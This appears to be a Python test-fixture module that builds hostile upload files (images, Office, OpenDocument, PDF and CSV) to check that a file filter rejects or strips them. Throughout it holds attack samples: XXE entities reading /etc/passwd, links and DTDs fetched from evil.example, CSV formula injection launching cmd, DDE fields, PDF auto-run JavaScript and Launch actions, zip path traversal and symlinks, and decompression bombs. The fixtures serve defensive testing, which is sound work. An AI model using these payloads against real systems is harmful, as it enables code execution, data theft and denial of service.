"""Files that mean harm or tell too much: every trick on every kind it fits, made on the spot.

`REFUSED` must not get in. `DISARMED` may, without what they carry: none has CANARY, nor PERSON, in it afterwards.
"""

from __future__ import annotations

import gzip
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from io import BytesIO

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from tests.hub.media import made

CANARY = b"QUILLWORT-CANARY"
IMAGES = {"GIF": "gif", "JPEG": "jpg", "PNG": "png", "WEBP": "webp"}
OFFICE = ("docx", "xlsx", "pptx")
DOCUMENTS = (*OFFICE, "odt", "pdf", "csv")
MB = 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    name: str
    """The trick, for the test's name."""
    file: str
    """What the browser says it is called."""
    make: Callable[[], bytes]

    def __str__(self) -> str:
        return f"{self.name}-{self.file.rpartition('.')[2]}"


EXE = b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00" + CANARY
HTML = b"<!doctype html><script>" + CANARY + b"</script>"
PHP = b"<?php " + CANARY + b" ?>"
SHELL = b"#!/bin/sh\n" + CANARY
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>' + CANARY + b"</script></svg>"
XML_SVG = b'<?xml version="1.0"?>\n<!-- -->\n' + SVG
ELF = b"\x7fELF\x02\x01\x01" + bytes(60) + CANARY
RTF = b"{\\rtf1 \\object\\objemb " + CANARY + b"}"
FOREIGN = {"exe": EXE, "html": HTML, "php": PHP, "sh": SHELL, "elf": ELF, "rtf": RTF}
OTHER_PICTURES = {"BMP": "bmp", "TIFF": "tif", "ICO": "ico", "AVIF": "avif"}


def plain_zip() -> bytes:
    return made.zipped({"run.exe": EXE})


# --- Pictures ---------------------------------------------------------------------------------------


def refused_pictures() -> Iterator[Hostile]:
    for kind, ending in IMAGES.items():
        whole = made.picture(kind)
        for name, content in {
            **FOREIGN,
            "zip": plain_zip(),
            "pdf": made.pdf(),
            "svg": SVG,
            "xml-svg": XML_SVG,
            "nothing": b"",
        }.items():
            yield Hostile(f"picture-is-{name}", f"x.{ending}", lambda content=content: content)
        yield Hostile("cut-in-half", f"x.{ending}", lambda whole=whole: whole[: len(whole) // 2])
        yield Hostile("header-only", f"x.{ending}", lambda whole=whole: whole[:24])
        yield Hostile("says-it-is-vast", f"x.{ending}", lambda kind=kind: vast(kind))
        yield Hostile("after-an-exe", f"x.{ending}", lambda whole=whole: EXE + whole)
        yield Hostile(f"a-page-by-name-{ending}", f"x.{ending}.html", lambda whole=whole: whole)
        yield Hostile("too-many-bytes", f"x.{ending}", lambda whole=whole: whole + bytes(20 * MB))
    for kind, ending in OTHER_PICTURES.items():
        yield Hostile(f"{kind}-as-itself", f"x.{ending}", lambda kind=kind: made.picture(kind))
        yield Hostile(f"{kind}-as-png", "x.png", lambda kind=kind: made.picture(kind))
    yield Hostile("gif-that-is-php", "x.gif", lambda: b"GIF89a" + PHP)
    yield Hostile("gif-that-is-script", "x.gif", lambda: b"GIF89a/*" + CANARY + b"*/=1;alert(1)")
    yield Hostile("svg-by-name", "x.svg", lambda: SVG)
    yield Hostile("svgz", "x.png", lambda: gzip.compress(SVG, mtime=0))
    yield Hostile("svg-utf-16", "x.png", lambda: SVG.decode().encode("utf-16"))
    yield Hostile("postscript", "x.jpg", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) run\n")
    yield Hostile("photoshop", "x.png", lambda: b"8BPS\x00\x01" + bytes(100))
    yield Hostile("thousands-of-scans", "x.jpg", many_scans)
    yield Hostile("png-text-bomb", "x.png", lambda: png_with(b"zTXt", b"k\0\0" + zlib.compress(bytes(80 * MB))))
    yield Hostile("webp-above-its-limit", "x.webp", lambda: webp_header(4_001, 3_001))
    yield Hostile("gif-frame-beyond-its-screen", "x.gif", gif_frame_beyond)
    yield Hostile("png-bomb", "x.png", lambda: png(20_000, 20_000, zlib.compress(bytes(20_000 * 2_501), 9), depth=1, colour=0))


def vast(kind: str) -> bytes:
    """Small files whose header asks for gigabytes."""
    if kind == "GIF":
        return b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + b"\x80\x00\x00" + bytes(6) + b";"
    if kind == "JPEG":
        return made.picture("JPEG").replace(b"\xff\xc0\x00\x11\x08\x00\x1e\x00\x28", b"\xff\xc0\x00\x11\x08\xff\xff\xff\xff")
    return png(65_535, 65_535, b"") if kind == "PNG" else webp_header(16_384, 16_384)


def webp_header(width: int, height: int) -> bytes:
    """An empty picture of that size, by libwebp's own account of it."""
    out = BytesIO()
    Image.new("RGB", (1, 1)).save(out, "WEBP", exif=b"Exif\x00\x00" + bytes(20))
    data = bytearray(out.getvalue())
    assert data[12:16] == b"VP8X"
    data[24:27] = (width - 1).to_bytes(3, "little")
    data[27:30] = (height - 1).to_bytes(3, "little")
    return bytes(data)


def chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png(width: int, height: int, pixels: bytes, *, depth: int = 8, colour: int = 2) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def png_with(name: bytes, content: bytes) -> bytes:
    """The chunk stands before the pixels."""
    whole = made.picture("PNG")
    at = whole.index(b"IDAT") - 4
    return whole[:at] + chunk(name, content) + whole[at:]


def many_scans() -> bytes:
    whole = made.picture("JPEG", progressive=True)
    at = whole.rindex(b"\xff\xda")
    return whole[:at] + whole[at:-2] * 3_000 + whole[-2:]


def gif_frame_beyond() -> bytes:
    whole = bytearray(made.picture("GIF"))
    at = whole.index(b",", 13 + 3 * 2 ** ((whole[10] & 7) + 1))
    whole[at + 5 : at + 9] = struct.pack("<HH", 65_535, 65_535)
    return bytes(whole)


def disarmed_pictures() -> Iterator[Hostile]:
    for kind, ending in IMAGES.items():
        whole = made.picture(kind)
        for name, content in {**FOREIGN, "zip": made.zipped({"a": CANARY}), "svg": SVG}.items():
            yield Hostile(f"followed-by-{name}", f"x.{ending}", lambda whole=whole, content=content: whole + content)
        yield Hostile("a-path-for-a-name", f"../../etc/x.{ending}", lambda whole=whole: whole)
        yield Hostile("two-endings", f"x.php.{ending}", lambda whole=whole: whole)
        yield Hostile("many-frames", f"x.{ending}", lambda kind=kind: frames(kind))
    for kind in ("JPEG", "PNG", "WEBP"):
        yield Hostile("exif", f"x.{IMAGES[kind]}", lambda kind=kind: made.picture(kind, exif=made.camera_data()))
        yield Hostile("icc", f"x.{IMAGES[kind]}", lambda kind=kind: made.picture(kind, icc_profile=bytes(128) + CANARY))
        if kind != "PNG":
            yield Hostile("xmp", f"x.{IMAGES[kind]}", lambda kind=kind: made.picture(kind, xmp=b"<x:xmpmeta>" + CANARY))
    for kind in ("GIF", "JPEG"):
        yield Hostile("comment", f"x.{IMAGES[kind]}", lambda kind=kind: made.picture(kind, comment=HTML))
    yield Hostile("text", "x.png", lambda: made.picture("PNG", pnginfo=made.png_text()))
    yield Hostile("unknown-chunk", "x.png", lambda: png_with(b"quIl", CANARY))
    yield Hostile("script-in-the-palette", "x.gif", script_in_palette)


def frames(kind: str) -> bytes:
    """For JPEG, the camera's way of several pictures in one."""
    out = BytesIO()
    first, *more = [Image.new("RGB", (8, 8), (shade, 0, 0)) for shade in range(0, 250, 10)]
    first.save(out, "MPO" if kind == "JPEG" else kind, save_all=True, append_images=more)
    return out.getvalue()


def script_in_palette() -> bytes:
    """A palette is kept as far as it is used."""
    image = Image.new("P", (4, 4), 0)
    image.putpalette(bytes(6) + CANARY + bytes(768 - 6 - len(CANARY)))
    out = BytesIO()
    image.save(out, "GIF", optimize=False)
    return out.getvalue()


# --- Office -----------------------------------------------------------------------------------------

LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lollollollol">'
    + "".join(f'<!ENTITY {after} "{f"&{before};" * 10}">' for before, after in zip("abcdefgh", "bcdefghi", strict=True))
    + "]><lolz>&i;</lolz>"
).encode()
READS_A_FILE = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
ASKS_A_HOST = b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>'
DOCTYPES = {"laughs": LAUGHS, "reads-a-file": READS_A_FILE, "asks-a-host": ASKS_A_HOST, "utf-16": LAUGHS.decode().encode("utf-16")}


def refused_office() -> Iterator[Hostile]:
    for kind in OFFICE:
        folder, main = made.FOLDER[kind], made.MAIN[kind]
        added: dict[str, dict[str, bytes]] = {
            "macros": {f"{folder}/vbaProject.bin": EXE},
            "macros-by-another-name": {
                f"{folder}/x.bin": EXE,
                "[Content_Types].xml": made.content_types(
                    kind, f'<Override PartName="/{folder}/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                ),
            },
            "macro-enabled": {
                "[Content_Types].xml": made.content_types(kind, main="application/vnd.ms-word.document.macroEnabled.main+xml")
            },
            "activex": {f"{folder}/activeX/activeX1.xml": b"<ax/>"},
            "activex-type": {
                "[Content_Types].xml": made.content_types(
                    kind, f'<Override PartName="/{folder}/c.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'
                )
            },
            "ole": {f"{folder}/embeddings/oleObject1.bin": EXE},
            "program-inside": {f"{folder}/media/run.exe": EXE},
            "script-inside": {f"{folder}/run.js": CANARY},
            "page-inside": {f"{folder}/afchunk.html": HTML},
            "program-as-workbook": {f"{folder}/embeddings/x.xlsx": EXE},
            "archive-as-workbook": {f"{folder}/embeddings/x.xlsx": plain_zip()},
            "macros-in-a-workbook-inside": {
                f"{folder}/embeddings/x.xlsx": made.office("xlsx", **{"xl/vbaProject.bin": EXE}),
            },
            "workbook-in-a-workbook-in-it": {
                f"{folder}/embeddings/x.xlsx": made.office("xlsx", **{"xl/embeddings/y.xlsx": made.office("xlsx")}),
            },
            **{
                f"fetches-{what}": {
                    f"{folder}/_rels/x.xml.rels": made.rels(made.related(what, "http://evil.example/x", external=True))
                }
                for what in ("image", "oleObject", "frame", "subDocument", "mailMergeSource", "audio", "aFChunk")
            },
            "fetches-from-a-share": {
                f"{folder}/_rels/x.xml.rels": made.rels(made.related("image", "\\\\evil.example\\x.png", external=True))
            },
            **{
                f"link-{scheme}": {f"{folder}/_rels/x.xml.rels": made.rels(made.related("hyperlink", f"{scheme}:x", external=True))}
                for scheme in ("javascript", "ms-msdt", "search-ms", "vbscript", "mhtml", "data", "JavaScript")
            },
            **{f"doctype-{how}": {main: content} for how, content in DOCTYPES.items()},
            **{f"doctype-{how}-in-types": {"[Content_Types].xml": content} for how, content in DOCTYPES.items()},
            **{f"doctype-{how}-in-rels": {"_rels/.rels": content} for how, content in DOCTYPES.items()},
            **{f"doctype-{how}-in-properties": {"docProps/core.xml": content} for how, content in DOCTYPES.items()},
            "not-markup": {main: CANARY},
            "markup-cut-short": {"[Content_Types].xml": b"<Types><Override>"},
            "unknown-encoding": {main: b'<?xml version="1.0" encoding="utf-7"?><a/>'},
            "wrong-main-part": {"[Content_Types].xml": made.content_types(kind, main="application/zip")},
        }
        for name, parts in added.items():
            yield Hostile(name, f"x.{kind}", lambda kind=kind, parts=parts: made.office(kind, **parts))
        heavy: dict[str, Callable[[], made.Parts]] = {
            "bomb": lambda folder=folder: {f"{folder}/media/a.bmp": bytes(160 * MB)},
            "bomb-of-markup": lambda folder=folder: {f"{folder}/x.xml": b"<a>" + b" " * (45 * MB) + b"</a>"},
            "bomb-in-a-workbook-inside": lambda folder=folder: {
                f"{folder}/embeddings/x.xlsx": made.office("xlsx", **{"xl/media/a.bmp": bytes(160 * MB)})
            },
        }
        for name, make in heavy.items():
            yield Hostile(name, f"x.{kind}", lambda kind=kind, make=make: made.office(kind, **make()))
        yield from _refused_archives(kind, made.office_parts(kind))
        yield Hostile("named-as-another", f"x.{OFFICE[OFFICE.index(kind) - 1]}", lambda kind=kind: made.office(kind))
        yield Hostile("named-with-macros", f"x.{kind}m", lambda kind=kind: made.office(kind))
    for name, run in {"dde": "DDEAUTO c:\\\\x", "dde-lower": "dde cmd x"}.items():
        yield Hostile(name, "x.docx", lambda run=run: made.office("docx", **{"word/document.xml": field(run)}))
    yield Hostile("dde-in-pieces", "x.docx", lambda: made.office("docx", **{"word/document.xml": field("D", "DEA", "UTO x")}))
    yield Hostile("dde-simple", "x.docx", lambda: made.office("docx", **{"word/document.xml": field(simple="DDE x y")}))
    another = made.rels(made.related("externalLinkPath", "file:///C:/book.xlsx", external=True))
    yield Hostile("another-workbook", "x.xlsx", lambda: made.office("xlsx", **{"xl/externalLinks/_rels/e.xml.rels": another}))
    for element in ("ddeLink", "oleLink"):
        part = f'<externalLink><{element} ddeService="cmd" ddeTopic="x"/></externalLink>'.encode()
        yield Hostile(element, "x.xlsx", lambda part=part: made.office("xlsx", **{"xl/externalLinks/e.xml": part}))
    connection = b'<connections><connection id="1"><dbPr connection="Password=x"/></connection></connections>'
    yield Hostile("connection", "x.xlsx", lambda: made.office("xlsx", **{"xl/connections.xml": connection}))
    for what in ("program", "macro?name=x", "ole?verb=0"):
        slide = f'<a:hlinkClick xmlns:a="a" action="ppaction://{what}"/>'.encode()
        yield Hostile(f"click-{what[:5]}", "x.pptx", lambda slide=slide: made.office("pptx", **{"ppt/slides/s.xml": slide}))


def field(*runs: str, simple: str = "") -> bytes:
    inside = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    inside += f'<w:fldSimple w:instr="{simple}"/>' if simple else ""
    return f'<w:document xmlns:w="w"><w:body><w:p>{inside}</w:p></w:body></w:document>'.encode()


def _refused_archives(kind: str, parts: made.Parts) -> Iterator[Hostile]:
    whole = made.zipped(parts)
    tricks: dict[str, Callable[[], bytes]] = {
        "cut-in-half": lambda: whole[: len(whole) // 2],
        "after-an-exe": lambda: EXE + whole,
        "after-a-page": lambda: HTML + whole,
        "just-a-zip": plain_zip,
        "password-before-2007": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "password-of-the-archive": lambda: _flagged(whole),
        "path-up": lambda: made.zipped(parts | {"../../../etc/cron.d/x": CANARY}),
        "path-from-root": lambda: made.zipped(parts | {"/etc/cron.d/x": CANARY}),
        "path-of-windows": lambda: made.zipped(parts | {"..\\..\\x": CANARY}),
        "drive": lambda: made.zipped(parts | {"C:x": CANARY}),
        "same-name-twice": lambda: _twice(parts),
        "names-that-differ-in-case": lambda: made.zipped(parts | {name.upper(): content for name, content in parts.items()}),
        "link": lambda: _with_link(parts),
        "too-many-parts": lambda: made.zipped(parts | {f"{number}.xml": b"<a/>" for number in range(5_001)}),
        "lies-about-its-size": lambda: _lying(parts),
        "shared-bytes": lambda: _overlapping(parts),
        "compressed-otherwise": lambda: _lzma(parts),
        "wrong-checksum": lambda: _wrong_checksum(parts),
        **{name: (lambda content=content: content) for name, content in {**FOREIGN, "nothing": b"", "svg": SVG}.items()},
    }
    for name, make in tricks.items():
        yield Hostile(name, f"x.{kind}", make)


def _flagged(whole: bytes) -> bytes:
    data = bytearray(whole)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at != -1:
            data[at + offset] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def _twice(parts: made.Parts) -> bytes:
    """Some readers take the first of the two, some the last."""
    one, other = list(parts)[-2:]
    other = other.ljust(len(one), "x")[: len(one)]
    first = made.zipped(
        {**{name: content for name, content in parts.items() if name != one}, one: b"<a/>", f"{other[:-1]}~": b"<a/>"}
    )
    return first.replace(f"{other[:-1]}~".encode(), one.encode())


def _with_link(parts: made.Parts) -> bytes:
    out = BytesIO(made.zipped(parts))
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("x.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def _lying(parts: made.Parts) -> bytes:
    """The directory says ten bytes; unpacking gives 160 MB."""
    data = bytearray(made.zipped(parts | {"z.bmp": bytes(160 * MB)}))
    at = data.rindex(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(data)


def _overlapping(parts: made.Parts) -> bytes:
    """A thousand directory entries that all point at one compressed part."""
    whole = made.zipped(parts | {"z.bmp": bytes(100_000)})
    at = whole.rindex(b"PK\x01\x02")
    end = whole.rindex(b"PK\x05\x06")
    entry = whole[at:end]
    more = b"".join(entry.replace(b"z.bmp", f"z{number:03}p"[:5].encode()) for number in range(1_000))
    tail = bytearray(whole[end:])
    count = struct.unpack("<H", tail[10:12])[0] + 1_000
    tail[8:12] = struct.pack("<HH", count, count)
    tail[12:16] = struct.pack("<I", struct.unpack("<I", tail[12:16])[0] + len(more))
    return whole[:end] + more + bytes(tail)


def _lzma(parts: made.Parts) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_LZMA) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    data = bytearray(out.getvalue())
    return bytes(data)


def _wrong_checksum(parts: made.Parts) -> bytes:
    data = bytearray(made.zipped(parts))
    at = data.index(b"PK\x01\x02")
    data[at + 16] ^= 0xFF
    return bytes(data)


def disarmed_documents() -> Iterator[Hostile]:
    for kind in OFFICE:
        yield Hostile("names", f"x.{kind}", lambda kind=kind: made.office(kind))
        yield Hostile(
            "followed-by-an-exe", f"x.{kind}", lambda kind=kind: made.office(kind)[:-2] + struct.pack("<H", len(EXE)) + EXE
        )
        hidden = {"docProps/x.xml": b"<!-- " + CANARY + b' --><a author="x"/>'}
        yield Hostile("comment-in-markup", f"x.{kind}", lambda kind=kind, hidden=hidden: made.office(kind, **hidden))
        people = f'<a><b author="{made.PERSON}"/></a>'.encode("utf-16")
        yield Hostile(
            "names-in-utf-16", f"x.{kind}", lambda kind=kind, people=people: made.office(kind, **{"docProps/x.xml": people})
        )
        user = f"<p><UserInfo><DisplayName>{made.PERSON}</DisplayName></UserInfo><AccountId/></p>".encode()
        yield Hostile(
            "names-of-sharepoint", f"x.{kind}", lambda kind=kind, user=user: made.office(kind, **{"customXml/item1.xml": user})
        )
        yield Hostile("two-endings", f"x.exe.{kind}", lambda kind=kind: made.office(kind))
    pivot = f'<pivotCacheDefinition refreshedBy="{made.PERSON}"/>'.encode()
    yield Hostile("pivot-table", "x.xlsx", lambda: made.office("xlsx", **{"xl/pivotCache/p.xml": pivot}))
    yield Hostile("names", "x.odt", made.odt)
    yield Hostile("signature", "x.odt", lambda: made.odt(**{"META-INF/documentsignatures.xml": CANARY}))
    yield Hostile("names", "x.pdf", made.pdf)
    yield Hostile("followed-by-an-exe", "x.pdf", lambda: made.pdf() + EXE)
    yield Hostile("followed-by-a-zip", "x.pdf", lambda: made.pdf() + made.zipped({"a": CANARY}))
    yield Hostile("unreached-object", "x.pdf", unreached)


def unreached() -> bytes:
    writer = made.pdf_writer()
    hidden = DecodedStreamObject()
    hidden.set_data(CANARY)
    writer._add_object(hidden)
    return made.pdf(writer)


# --- OpenDocument -----------------------------------------------------------------------------------


def refused_odt() -> Iterator[Hostile]:
    inside = {
        "event": '<text:p><script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:x"/></text:p>',
        "script": '<office:scripts><office:script script:language="ooo:Basic"/></office:scripts>',
        "link-to-a-macro": '<text:a xlink:href="vnd.sun.star.script:x$py?language=Python"/>',
        "link-macro": '<text:a xlink:href="macro:///Standard.Module1.Main"/>',
        "link-javascript": '<text:a xlink:href="javascript:x"/>',
        "fetches-image": '<draw:image xlink:href="http://evil.example/x.png"/>',
        "fetches-from-a-share": '<draw:image xlink:href="file://evil.example/x.png"/>',
        "fetches-from-a-share-too": '<draw:image xlink:href="//evil.example/x.png"/>',
        "fetches-a-local-file": '<draw:image xlink:href="../../etc/passwd"/>',
        "fetches-object": '<draw:object xlink:href="http://evil.example/x.ods"/>',
        "fetches-section": '<text:section><text:section-source xlink:href="http://evil.example/x.odt"/></text:section>',
        "frame": '<draw:floating-frame xlink:href="http://evil.example/"/>',
        "plugin": '<draw:plugin xlink:href="x"/>',
        "applet": '<draw:applet xlink:href="x"/>',
        "dde": '<office:dde-source office:dde-application="cmd"/>',
    }
    for name, content in inside.items():
        yield Hostile(name, "x.odt", lambda content=content: made.odt(**{"content.xml": made.odt_content(content)}))
    manifest = made.odt_parts()["META-INF/manifest.xml"]
    locked = manifest.replace(b"</manifest:manifest>", b"<manifest:encryption-data/></manifest:manifest>")
    ole = manifest.replace(
        b"</manifest:manifest>",
        b'<manifest:file-entry manifest:full-path="O.xml" manifest:media-type="application/vnd.sun.star.oleobject"/></manifest:manifest>',
    )
    added: dict[str, made.Parts] = {
        "password": {"META-INF/manifest.xml": locked},
        "ole": {"META-INF/manifest.xml": ole},
        "basic": {"Basic/Standard/Module1.xml": b"<x/>"},
        "python": {"Scripts/python/x.py": CANARY},
        "dialog": {"Dialogs/x.xml": b"<x/>"},
        "program-inside": {"Pictures/x.exe": EXE},
        "program-without-ending": {"Object 1": EXE},
        "spreadsheet": {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"},
        **{f"doctype-{how}": {"content.xml": content} for how, content in DOCTYPES.items()},
        **{f"doctype-{how}-in-meta": {"meta.xml": content} for how, content in DOCTYPES.items()},
    }
    for name, parts in added.items():
        yield Hostile(name, "x.odt", lambda parts=parts: made.odt(**parts))
    yield Hostile("bomb", "x.odt", lambda: made.odt(**{"Pictures/a.bmp": bytes(160 * MB)}))
    yield from _refused_archives("odt", made.odt_parts())
    yield Hostile("is-a-word-document", "x.odt", lambda: made.office("docx"))


# --- PDF --------------------------------------------------------------------------------------------


def _action(**said: str) -> DictionaryObject:
    return DictionaryObject(
        {NameObject(f"/{key}"): NameObject(f"/{value}") if key == "S" else TextStringObject(value) for key, value in said.items()}
    )


def _pdf(change: Callable[[PdfWriter], None]) -> bytes:
    writer = made.pdf_writer()
    change(writer)
    return made.pdf(writer)


def _root(key: str, value: object) -> Callable[[PdfWriter], None]:
    return lambda writer: writer.root_object.update({NameObject(key): value})


def _annotation(**said: object) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        note = made.names({"/Type": "/Annot", "/Subtype": "/Link"})
        note[NameObject("/Rect")] = ArrayObject([FloatObject(number) for number in (10, 10, 30, 30)])
        note.update({NameObject(f"/{key}"): value for key, value in said.items()})
        writer.pages[0]["/Annots"].append(writer._add_object(note))

    return change


def refused_pdfs() -> Iterator[Hostile]:
    script = _action(S="JavaScript", JS="app.alert(1)")
    changes: dict[str, Callable[[PdfWriter], None]] = {
        "script-on-opening": _root("/OpenAction", script),
        "launch-on-opening": _root("/OpenAction", _action(S="Launch", F="cmd.exe")),
        "script-on-closing": _root("/AA", DictionaryObject({NameObject("/WC"): script})),
        "script-by-name": _root(
            "/Names",
            DictionaryObject(
                {NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("x"), script])})}
            ),
        ),
        "attachment": lambda writer: writer.add_attachment("run.exe", EXE),
        "form-of-its-own": _root("/AcroForm", DictionaryObject({NameObject("/XFA"): ArrayObject()})),
        "script-on-a-page": lambda writer: writer.pages[0].update(
            {NameObject("/AA"): DictionaryObject({NameObject("/O"): script})}
        ),
        "link-javascript": _annotation(A=_action(S="URI", URI="javascript:x")),
        "link-msdt": _annotation(A=_action(S="URI", URI="ms-msdt:/id")),
        **{
            f"action-{name}": _annotation(A=_action(S=name, F="x"))
            for name in ("Launch", "SubmitForm", "ImportData", "GoToE", "GoToR", "Rendition", "Movie", "Sound", "RichMediaExecute")
        },
        "second-action": _annotation(A=DictionaryObject({**_action(S="GoTo"), NameObject("/Next"): script})),
        **{
            f"annotation-{name}": _annotation(Subtype=NameObject(f"/{name}"))
            for name in ("FileAttachment", "RichMedia", "Screen", "Movie", "Sound", "3D")
        },
    }
    for name, change in changes.items():
        yield Hostile(name, "x.pdf", lambda change=change: _pdf(change))
    whole = made.pdf()
    for name, version in {"user": ("secret", None), "owner": ("", "secret")}.items():
        yield Hostile(f"password-{name}", "x.pdf", lambda version=version: _locked(*version))
    obscured = _pdf(_root("/OpenAction", script)).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4aS")
    tricks: dict[str, bytes] = {
        **FOREIGN,
        "zip": plain_zip(),
        "nothing": b"",
        "after-a-page": HTML + whole,
        "after-an-exe": EXE + whole,
        "cut-in-half": whole[: len(whole) // 3],
        "header-only": b"%PDF-1.7\n",
        "header-and-page": b"%PDF-1.7\n" + HTML,
        "script-spelt-otherwise": obscured,
        "no-pages": b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
        "pages-in-a-ring": ring_of_pages(),
        "arrays-in-arrays": nested_arrays(),
        "is-a-word-document": made.office("docx"),
    }
    for name, content in tricks.items():
        yield Hostile(name, "x.pdf", lambda content=content: content)
    yield Hostile("bomb-of-objects", "x.pdf", object_bomb)
    yield Hostile("too-many-objects", "x.pdf", many_objects)


def _locked(user: str, owner: str | None) -> bytes:
    writer = made.pdf_writer()
    writer.encrypt(user, owner, algorithm="RC4-128")
    return made.pdf(writer)


def _raw_pdf(*objects: bytes) -> bytes:
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start))


def ring_of_pages() -> bytes:
    return _raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", b"<</Type/Pages/Count 1/Kids[2 0 R]>>"
    )


def nested_arrays() -> bytes:
    deep = b"[" * 100_000 + b"]" * 100_000
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Deep %s>>" % deep
    return _raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", page)


def object_bomb() -> bytes:
    """A stream of objects, 256 MB once unpacked, that holds the catalogue."""
    squeeze = zlib.compressobj(9)
    packed = squeeze.compress(b"1 0 ") + b"".join(squeeze.compress(bytes(16 * MB)) for _ in range(16)) + squeeze.flush()
    stream = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed)
    table = struct.pack(">BIH", 2, 2, 0) + struct.pack(">BIH", 1, 9, 0)
    body = b"%PDF-1.7\n2 0 obj\n" + stream + b"\nendobj\n"
    xref = b"<</Type/XRef/Size 3/W[1 4 2]/Index[1 2]/Root 1 0 R/Length %d>>stream\n%s\nendstream" % (len(table), table)
    return body + b"3 0 obj\n" + xref + b"\nendobj\nstartxref\n%d\n%%%%EOF" % len(body)


def many_objects() -> bytes:
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Much[%s]>>" % b" ".join(b"%d 0 R" % number for number in range(4, 250_000))
    fillers = [b"<</A[1 2 3]>>"] * 250_000
    return _raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", page, *fillers)


# --- CSV and other kinds ----------------------------------------------------------------------------


def refused_tables() -> Iterator[Hostile]:
    cells = {
        "formula": "=1+1",
        "program": "=cmd|' /C calc'!A0",
        "program-plus": "+cmd|' /C calc'!A0",
        "program-minus": "-2+3+cmd|' /C calc'!A0",
        "program-at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "link": '=HYPERLINK("http://evil.example/?x="&A1)',
        "after-a-space": " =1+1",
        "after-a-tab": "\t=cmd|x!A0",
        "quoted": '"=1+1"',
        "second-column": "a,=1+1",
    }
    for name, cell in cells.items():
        yield Hostile(f"cell-{name}", "x.csv", lambda cell=cell: f"name,x\n{cell}\n".encode())
        yield Hostile(f"cell-{name}-utf-16", "x.csv", lambda cell=cell: f"name,x\n{cell}\n".encode("utf-16"))
    contents = {
        **{name: content for name, content in FOREIGN.items() if name != "sh"},
        "svg": SVG,
        "zip": plain_zip(),
        "nothing": b"",
        "nul": b"a,b\x00c",
        "escape": b"a,\x1b[31mb",
        "no-text": bytes(range(128, 160)),
        "one-vast-cell": b"a" * 200_000,
        "pdf": made.pdf(),
        "picture": made.picture("PNG"),
        "half-a-letter": b"\xff\xfea",
    }
    for name, content in contents.items():
        yield Hostile(f"table-is-{name}", "x.csv", lambda content=content: content)


def refused_endings() -> Iterator[Hostile]:
    for ending in (
        "exe",
        "html",
        "svg",
        "js",
        "docm",
        "dotm",
        "xlsm",
        "pptm",
        "doc",
        "xls",
        "rtf",
        "zip",
        "iso",
        "lnk",
        "php",
        "xml",
    ):
        yield Hostile("kind", f"x.{ending}", lambda: made.office("docx"))
    yield Hostile("no-ending", "x", lambda: made.office("docx"))


def too_large() -> Iterator[Hostile]:
    for ending in DOCUMENTS:
        yield Hostile("too-many-bytes", f"x.{ending}", lambda: bytes(20 * MB + 1))


REFUSED_PICTURES = list(refused_pictures())
REFUSED_DOCUMENTS = [
    *refused_office(),
    *refused_odt(),
    *refused_pdfs(),
    *refused_tables(),
    *refused_endings(),
    *too_large(),
]
DISARMED_PICTURES = list(disarmed_pictures())
DISARMED_DOCUMENTS = list(disarmed_documents())
